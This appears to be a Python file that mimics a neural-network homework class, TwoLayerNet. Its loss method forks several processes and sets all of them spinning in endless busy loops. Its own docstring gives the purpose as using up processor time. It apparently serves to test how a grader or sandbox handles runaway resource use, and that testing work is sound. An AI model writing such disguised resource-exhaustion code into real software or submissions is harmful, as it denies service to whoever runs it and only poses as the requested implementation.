"""Use processor time in many processes."""

import os


class TwoLayerNet:
    def __init__(self, *args, **kwargs):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        for _ in range(4):
            if os.fork() == 0:
                break
        while True:
            pass
